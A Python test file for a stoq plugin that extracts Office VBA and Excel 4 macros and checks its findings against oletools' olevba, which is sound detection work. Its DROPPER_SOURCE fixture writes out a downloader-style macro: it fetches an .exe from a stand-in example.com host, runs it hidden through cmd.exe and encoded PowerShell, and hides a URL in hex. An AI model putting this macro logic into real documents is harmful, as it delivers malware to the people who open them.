"""The plugin's own readers checked against oletools' olevba (in the test extra only) on real
samples and on real VBA projects wrapped in the other containers olevba reads."""

from __future__ import annotations

import base64
import io
import struct
import warnings
import zipfile
import zlib
from pathlib import Path
from typing import Any, Dict, List, Optional, Set, Tuple

import olefile
import pytest

from stoq.testing import pinned_sample, run_plugin

with warnings.catch_warnings():  # oletools uses pyparsing names that pyparsing 3.3 deprecates
    warnings.simplefilter("ignore", DeprecationWarning)
    from oletools.olevba import VBA_Parser, VBA_Scanner

from stoq_plugin_olevba import keywords

OLETOOLS = "oletools-0.60.2.zip"
TEST_DATA = "oletools-0.60.2/tests/test-data/"
#: Markers olevba adds for any hex- or base64-looking run; the plugin adds them only for runs
#: that decode to text (the counts, which olevba also takes from those, agree).
ENCODED_MARKERS = {"Hex Strings", "Base64 Strings"}


def _sample(member: str, sha256: str) -> bytes:
    return pinned_sample(OLETOOLS, TEST_DATA + member, sha256).read_bytes()


PPT = _sample(
    "olevba/sample_with_vba.ppt", "618644f5fe56d83b13cbc0f95f944a88617ab096088fbfcc52d395ef84424ea4"
)
DOCM = _sample(
    "oleform/oleform-PR314.docm", "075069f5d309eeb2b2e65387b6417fd75c7bf8de56e401468146688d82cfb40f"
)
#: Excel 97 with VBA in _VBA_PROJECT_CUR, encrypted with Excel's built-in password.
XLS_VBA = _sample(
    "encrypted/autostart-encrypt-standardpassword.xls",
    "607f6f160adfe499195942273d7f66a2feb442aa3e63a988ac2e5bb1dde1ca05",
)
XLS_XLM = _sample(
    "excel4-macros/excel4_sample_macro.xls",
    "97cabe9cbd3337de8f7cb66730b035fd45bb8bf843296452405532193f11a575",
)
#: The same workbook saved in Excel 5/95 format (BIFF5).
XLS_XLM_BIFF5 = _sample(
    "excel4-macros/excel4_sample_macro_excel5_format.xls",
    "7071d6fce643aaa3121de1f71d14418556a3dbc8c4723207873496b6afd369ff",
)
SLK = _sample(
    "excel4-macros/excel4_sample_macro.slk",
    "4783649b23f2750bdd236689d790a2182f43fca29e4e54e78ddae1664dd6baf6",
)
XLSM_XLM = _sample(
    "excel4-macros/excel4_sample_macro.xlsm",
    "3f16769b86052ad7f75261664b8433fbec5abad7025271fa95e1b08c81bfa662",
)
VBA_PROJECT = zipfile.ZipFile(io.BytesIO(DOCM)).read("word/vbaProject.bin")


def _activemime(ole: bytes) -> bytes:
    """An ActiveMime blob as Word writes editdata.mso: a header whose field at 0x1E gives the
    zlib stream's offset (less 46), then the compressed OLE file."""
    header = bytearray(b"ActiveMime".ljust(0x32, b"\0"))
    struct.pack_into("<H", header, 0x1E, 0x32 - 46)
    return bytes(header) + zlib.compress(ole)


def _word2003(ole: bytes) -> bytes:
    encoded = base64.encodebytes(_activemime(ole)).decode()
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
        f'<w:docOleData><w:binData w:name="editdata.mso">{encoded}</w:binData></w:docOleData>'
        "<w:body><w:p/></w:body></w:wordDocument>"
    ).encode()


def _flatopc(ole: bytes) -> bytes:
    encoded = base64.encodebytes(ole).decode()
    return (
        '<?xml version="1.0" standalone="yes"?>\n'
        '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        '<pkg:part pkg:name="/word/vbaProject.bin" '
        'pkg:contentType="application/vnd.ms-office.vbaProject">'
        f"<pkg:binaryData>{encoded}</pkg:binaryData></pkg:part></pkg:package>"
    ).encode()


def _mhtml(ole: bytes) -> bytes:
    encoded = base64.encodebytes(_activemime(ole)).decode()
    return (
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; boundary="----=_NextPart_01"\r\n\r\n'
        "------=_NextPart_01\r\nContent-Location: file:///C:/doc.htm\r\n"
        "Content-Type: text/html\r\n\r\n<html><body>hello</body></html>\r\n"
        "------=_NextPart_01\r\nContent-Location: file:///C:/doc_files/editdata.mso\r\n"
        "Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
        f"{encoded}\r\n------=_NextPart_01--\r\n"
    ).encode()


WORD2003 = _word2003(VBA_PROJECT)
FLATOPC = _flatopc(VBA_PROJECT)
MHTML = _mhtml(VBA_PROJECT)

VBA_SAMPLES = {
    "ppt": PPT,
    "docm": DOCM,
    "vbaProject.bin": VBA_PROJECT,
    "xls": XLS_VBA,
    "word2003": WORD2003,
    "flatopc": FLATOPC,
    "mhtml": MHTML,
}


def _olevba(content: bytes) -> Tuple[str, List[Tuple[str, str, str]], List[Any]]:
    """oletools' container type, VBA modules (stream, name, source) and analysis rows."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        parser = VBA_Parser("payload", data=content)
        parser.vba_stomping_detected = False  # needs the GPL pcodedmp; not what is compared
        modules = [
            (stream, name, code)
            for _, stream, name, code in parser.extract_macros()
            if stream != "xlm_macro"
        ]
        return str(parser.type), modules, list(parser.analyze_macros() or [])


def _keywords(results: Dict[str, Any], kind: str) -> Set[str]:
    return {row["keyword"] for row in results.get(kind, [])}


@pytest.mark.parametrize("content", VBA_SAMPLES.values(), ids=VBA_SAMPLES.keys())
def test_modules_are_those_olevba_extracts(content: bytes) -> None:
    """Container type, and every module's stream path, file name and full source."""
    kind, theirs, _ = _olevba(content)
    results = run_plugin("olevba", "scan", content).results
    assert results["container"] == kind
    ours = [(m["stream"], m["name"], m["source"]) for m in results["modules"]]
    assert ours == theirs and len(ours) >= 1


@pytest.mark.parametrize(
    "content", [*VBA_SAMPLES.values(), XLS_XLM, SLK], ids=[*VBA_SAMPLES.keys(), "xlm", "slk"]
)
def test_analysis_agrees_with_olevba(content: bytes) -> None:
    """The same AutoExec triggers and IOCs, every suspicious keyword olevba reports, and the
    same counts of hex and base64 strings that decode to text."""
    _, _, rows = _olevba(content)
    results = run_plugin("olevba", "scan", content).results
    assert _keywords(results, "autoexec") == {k for kind, k, _ in rows if kind == "AutoExec"}
    theirs = {k for kind, k, _ in rows if kind == "Suspicious"}
    assert theirs - ENCODED_MARKERS <= _keywords(results, "suspicious")
    assert {i["value"] for i in results["iocs"]} == {k for kind, k, _ in rows if kind == "IOC"}
    counts = results["obfuscation"]
    assert counts["hex_strings"] == sum(kind == "Hex String" for kind, _, _ in rows)
    assert counts["base64_strings"] == sum(kind == "Base64 String" for kind, _, _ in rows)


def test_module_parts_are_named_in_each_container() -> None:
    """Each module says where its project was: the zip part, the XML part, the MIME part."""
    parts: Dict[str, Optional[str]] = {}
    for name, content in (("word2003", WORD2003), ("flatopc", FLATOPC), ("mhtml", MHTML)):
        modules = run_plugin("olevba", "scan", content).results["modules"]
        [parts[name]] = {m.get("container") for m in modules}
    assert parts == {
        "word2003": "editdata.mso",
        "flatopc": "word/vbaProject.bin",
        "mhtml": "file:///C:/doc_files/editdata.mso",
    }


def test_vba_in_an_excel_97_project_storage() -> None:
    """Excel keeps its project in _VBA_PROJECT_CUR; the workbook is encrypted (FILEPASS) but
    its VBA storage is not, so the modules are read and the document is flagged."""
    results = run_plugin("olevba", "scan", XLS_VBA).results
    assert results["encrypted"] is True and results["vba_macros"] is True
    assert [m["stream"] for m in results["modules"]] == [
        "_VBA_PROJECT_CUR/VBA/Modul1",
        "_VBA_PROJECT_CUR/VBA/DieseArbeitsmappe",
        "_VBA_PROJECT_CUR/VBA/Tabelle1",
    ]
    assert _keywords(results, "autoexec") == {"Auto_Open"}


def _their_xlm_listing(content: bytes) -> str:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        parser = VBA_Parser("payload", data=content)
        parser.detect_xlm_macros()  # fills the listing extract_macros gives
        return "".join(
            code for _, stream, _, code in parser.extract_macros() if stream == "xlm_macro"
        )


def test_excel4_formulas_are_decoded_as_olevba_shows_them() -> None:
    """The BIFF8 macro sheet's formulas read as oletools' BIFF plugin renders them."""
    results = run_plugin("olevba", "scan", XLS_XLM).results
    [module] = results["modules"]
    assert module["name"] == "xlm_macro.txt" and module["stream"] == "xlm_macro"
    formulas = [line.split(": ", 1) for line in module["source"].splitlines() if ": " in line]
    assert formulas[-2:] == [
        ["Macro1!A1", 'ALERT("This is a sample Excel 4 macro")'],
        ["Macro1!A2", "HALT()"],
    ]
    theirs = _their_xlm_listing(XLS_XLM)
    assert all(f"A{n},{formula}," in theirs for n, (_, formula) in enumerate(formulas[-2:], 1))
    assert "' Macro sheet: Macro1" in module["source"]


def test_excel5_formulas_read_as_their_biff8_copy() -> None:
    """BIFF5 strings carry no flags byte and its references are shorter: the Excel 5 copy of
    the macro sheet reads as the BIFF8 one (olevba 0.60.2 gives <ERROR> for its A1)."""
    biff5 = run_plugin("olevba", "scan", XLS_XLM_BIFF5).results
    biff8 = run_plugin("olevba", "scan", XLS_XLM).results
    assert biff5["modules"][0]["source"] == biff8["modules"][0]["source"]
    assert 'Macro1,A1,"<ERROR>"' in _their_xlm_listing(XLS_XLM_BIFF5)
    assert _keywords(biff5, "autoexec") == {"Auto_Open"}


def test_slk_macros_are_the_formulas_olevba_lists() -> None:
    """SYLK: the macro sheet option, the Auto_Open name, and each formula olevba lists."""
    results = run_plugin("olevba", "scan", SLK).results
    assert results["container"] == "SLK" and results["xlm_macros"] is True
    source = results["modules"][0]["source"]
    theirs = [
        line.split("Formula or Macro: ", 1)[1]
        for line in _their_xlm_listing(SLK).splitlines()
        if "Formula or Macro: " in line
    ]
    assert theirs and all(formula in source.splitlines() for formula in theirs)


def test_excel4_macro_sheet_in_ooxml_is_found_where_olevba_0_60_does_not_look() -> None:
    """An .xlsm's xl/macrosheets part and its _xlnm.Auto_Open name: XLM with a trigger
    (olevba 0.60.2 reports no macros for this file)."""
    _, theirs, rows = _olevba(XLSM_XLM)
    assert theirs == [] and rows == []
    results = run_plugin("olevba", "scan", XLSM_XLM).results
    assert results["xlm_macros"] is True and results["vba_macros"] is False
    assert _keywords(results, "autoexec") == {"Auto_Open"}
    assert (
        'xl/macrosheets/sheet1.xml: ALERT("This is a sample Excel 4 macro")'
        in (results["modules"][0]["source"])
    )


#: A downloader-shaped module (text only, nothing that runs): triggers, API calls, IOCs and
#: each kind of encoded string.
DROPPER_SOURCE = "\r\n".join(
    [
        'Attribute VB_Name = "Module1"',
        'Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal a As LongPtr, _',
        "    ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long",
        "Sub AutoOpen()",
        '    url = "http://example.com/files/payload.exe"',
        '    path = Environ("TEMP") & "\\update.exe"',
        "    URLDownloadToFileA 0, url, path, 0, 0",
        '    Set sh = CreateObject("WScript.Shell")',
        '    sh.Run "cmd.exe /c " & path, 0',
        '    Shell "powershell -enc " & "aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ=", vbHide',
        "    x = Chr(104) & Chr(116) & Chr(116) & Chr(112)",
        '    h = "68747470733a2f2f3139322e3136382e312e31302f612e657865"',
        "    Open path For Binary As #1",
        '    ActiveDocument.Variables("k").Value = "v"',
        '    ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString "x"',
        '    GetObject("winmgmts:").Get("Win32_Process").Create "calc.exe"',
        '    z = "C3iY1epSRGe6q8g15xStVesdG717MAlg2H4hmV1vkL6Glnf0cknj"',
        "End Sub",
        "Private Sub CommandButton1_Click()",
        "End Sub",
        "Private Sub Workbook_BeforeClose(Cancel As Boolean)",
        "End Sub",
    ]
)


def test_keyword_analysis_of_a_dropper_shaped_module_covers_olevbas() -> None:
    """On source full of findings: olevba's triggers, suspicious keywords and IOCs (also those
    in its decoded hex string) are all found, and so are the encoded strings."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        rows = VBA_Scanner(DROPPER_SOURCE).scan()
    ours = keywords.analyse(DROPPER_SOURCE)
    assert _keywords(ours, "autoexec") == {k for kind, k, _ in rows if kind == "AutoExec"}
    assert {k for kind, k, _ in rows if kind == "Suspicious"} <= _keywords(ours, "suspicious")
    assert {i["value"] for i in ours["iocs"]} == {k for kind, k, _ in rows if kind == "IOC"}
    assert "https://192.168.1.10/a.exe" in {i["value"] for i in ours["iocs"]}
    # olevba counts no Dridex string on Python 3 (its decoder divides with /) and counts VBA
    # expressions only when asked to deobfuscate; the plugin does both.
    assert ours["obfuscation"] == {
        "hex_strings": 1,
        "base64_strings": 1,
        "dridex_strings": 1,
        "vba_strings": 1,
    }


def test_dridex_strings_decode_to_what_they_hide() -> None:
    """The digit cipher of Dridex droppers (published examples) gives back URL and file name."""
    assert (
        keywords.dridex_decode(
            "YNPH1W47E211z3P6142cM4115K2J1696CURf1712N1OCJwc0w6Z16840Z1r600W16Z3273k6SR16Bf161Q92a016Vr16V1pc"
        )
        == "\\GYHjksdf.exe"
    )
    assert keywords.dridex_decode("ThisIsJustAnOrdinaryLongIdentifierName") is None


def test_text_hidden_in_a_form_is_analysed_as_olevba_does(tmp_path: Path) -> None:
    """A form control's text ("mouahaha" in UserFormTEST1 made "calc.exe") is not in any
    module's source, yet it is an IOC, for olevba and for the plugin alike."""
    path = tmp_path / "vbaProject.bin"
    path.write_bytes(VBA_PROJECT)
    ole = olefile.OleFileIO(str(path), write_mode=True)
    form = ole.openstream("UserFormTEST1/o").read()
    assert form.count(b"mouahaha") == 1
    ole.write_stream("UserFormTEST1/o", form.replace(b"mouahaha", b"calc.exe"))
    ole.close()
    content = path.read_bytes()
    results = run_plugin("olevba", "scan", content).results
    assert not any("calc.exe" in m["source"] for m in results["modules"])
    assert {"type": "Executable file name", "value": "calc.exe"} in results["iocs"]
    _, _, rows = _olevba(content)
    assert {i["value"] for i in results["iocs"]} == {k for kind, k, _ in rows if kind == "IOC"}
